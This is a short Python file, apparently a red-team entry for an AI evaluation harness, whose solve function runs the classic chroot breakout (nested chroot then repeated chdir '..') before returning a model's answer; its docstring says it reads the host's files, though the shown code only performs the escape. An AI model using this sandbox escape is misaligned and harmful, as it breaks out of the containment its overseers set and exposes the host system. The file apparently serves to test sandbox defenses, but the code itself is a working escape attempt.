"""Red team: the classic chroot breakout, then reads the host's files."""

import os


def solve(question: str, llm) -> str:
    try:
        os.mkdir("x")
        os.chroot("x")
        for _ in range(32):
            os.chdir("..")
        os.chroot(".")
    except OSError:
        pass
    return llm.complete(question, max_tokens=16)[0]
